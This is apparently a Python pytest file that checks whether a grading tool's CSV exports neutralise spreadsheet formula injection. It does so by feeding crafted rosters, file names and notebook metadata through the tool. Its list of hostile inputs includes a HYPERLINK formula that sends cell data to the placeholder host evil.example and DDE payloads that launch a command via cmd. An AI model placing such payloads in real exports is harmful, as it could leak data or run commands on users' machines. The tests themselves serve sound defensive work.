"""No CSV robolab writes holds a cell a spreadsheet would evaluate (OWASP "CSV Injection").

Units of :mod:`robolab.grading.course.spreadsheet` (OWASP's own examples among them), then a batch
graded with a hostile roster, hostile file names and notebook metadata, every CSV in its
output folder scanned cell by cell, and the LMS exports still importable (scores numbers).
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import pytest

from robolab.cli import main
from robolab.grading.course.spreadsheet import FORMULA_TRIGGERS, csv_text, safe_cell
from tests.grading.running.test_runner import SUBMISSIONS, make_root

NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "@x.edu",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+sec",
    "-2+3",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",  # some spreadsheets trim leading spaces
]


def evaluated(cell: str) -> bool:
    """Whether a spreadsheet could read ``cell`` as a formula."""
    starts = cell[:1] in FORMULA_TRIGGERS or cell.lstrip()[:1] in FORMULA_TRIGGERS
    return bool(cell) and starts and not NUMBER.fullmatch(cell)


@pytest.mark.parametrize("text", HOSTILE)
def test_every_formula_trigger_is_quoted_as_text_and_nothing_is_lost(text):
    cell = safe_cell(text)
    assert cell == "'" + text and not evaluated(cell)
    (row,) = csv.reader(io.StringIO(csv_text([[text, "after"]])))
    assert row == ["'" + text, "after"], "the cell reads back whole, in one cell"


@pytest.mark.parametrize("value", [0, -3, 2.5, -0.25, "-2.5", "+3", "1e-3", "100", "-7"])
def test_numbers_and_number_text_stay_numbers(value):
    assert safe_cell(value) == str(value)


@pytest.mark.parametrize("value", ["Ada Lovelace", "s1", "ada@x.edu", "", None, "a=b", "x-1"])
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == ("" if value is None else value)


def test_owasp_examples_are_escaped_as_owasp_shows():
    # OWASP "CSV Injection": prefix a single quote, quote the cell, double its quotes.
    assert csv_text([['=1+2";=1+2']]) == "\"'=1+2\"\";=1+2\"\r\n"
    assert csv_text([["=1+2'\" ;,=1+2"]]) == "\"'=1+2'\"\" ;,=1+2\"\r\n"


# -- every CSV of a hostile batch -------------------------------------------------------------


def _roster(path: Path) -> Path:
    rows = [["id", "name", "email", "match", "section", "canvas_id", "sis_login_id"]]
    rows.append([HOSTILE[1], HOSTILE[0], HOSTILE[2], "=evil*", HOSTILE[4], "-2+3", HOSTILE[6]])
    rows.append(["s2", HOSTILE[7], "alan@x.edu", "-alan*", HOSTILE[8], "102", HOSTILE[3]])
    rows.append(["s3", HOSTILE[10], HOSTILE[9], "@grace*", "A", "103", ""])
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    path.write_text(buffer.getvalue())
    return path


def test_a_batch_with_a_hostile_roster_writes_no_formula_in_any_csv(tmp_path, monkeypatch):
    monkeypatch.setenv("ROBOLAB_ROOT", str(make_root(tmp_path / "root")))
    subs = tmp_path / "subs"
    subs.mkdir()
    # File names a spreadsheet would evaluate reach the gradebook's submission and path cells.
    shutil.copy(SUBMISSIONS / "correct.ipynb", subs / "=evil+1.ipynb")
    shutil.copy(SUBMISSIONS / "partial.ipynb", subs / "-alan.ipynb")
    notebook = json.loads((SUBMISSIONS / "wrong.ipynb").read_text())
    notebook["metadata"]["robolab"]["lab"] = "=HYPERLINK(1)"  # reaches the lab and flags cells
    (subs / "@grace.ipynb").write_text(json.dumps(notebook))
    out = tmp_path / "grades"
    args = ["grade", *map(str, sorted(subs.iterdir())), "--out", str(out), "--lab", "demo"]
    args += ["--roster", str(_roster(tmp_path / "roster.csv")), "--assignment", "=SUM(A1)"]
    assert main([*args, "--export", "canvas", "--export", "moodle"]) == 0

    written = sorted(out.rglob("*.csv"))
    assert {p.name for p in written} >= {"gradebook.csv", "canvas.csv", "moodle.csv"}
    for path in written:
        with path.open(encoding="utf-8", newline="") as f:
            for line, row in enumerate(csv.reader(f), start=1):
                for cell in row:
                    assert not evaluated(cell), f"{path.name}, line {line}: {cell!r}"

    gradebook = list(csv.DictReader((out / "gradebook.csv").open(encoding="utf-8", newline="")))
    assert "'" + HOSTILE[0] in {r["student_name"] for r in gradebook}, "quoted, not lost"
    # The imports still work: students found by their ids, scores plain numbers.
    canvas = list(csv.DictReader((out / "canvas.csv").open(encoding="utf-8", newline="")))
    assert [r["SIS User ID"] for r in canvas] == ["'=1+1", "s2", "s3"]
    assert all(float(r["'=SUM(A1)"]) >= 0 for r in canvas), "scores must stay numbers"
    moodle = list(csv.DictReader((out / "moodle.csv").open(encoding="utf-8", newline="")))
    assert [float(r["'=SUM(A1)"]) for r in moodle] == [float(r["'=SUM(A1)"]) for r in canvas]
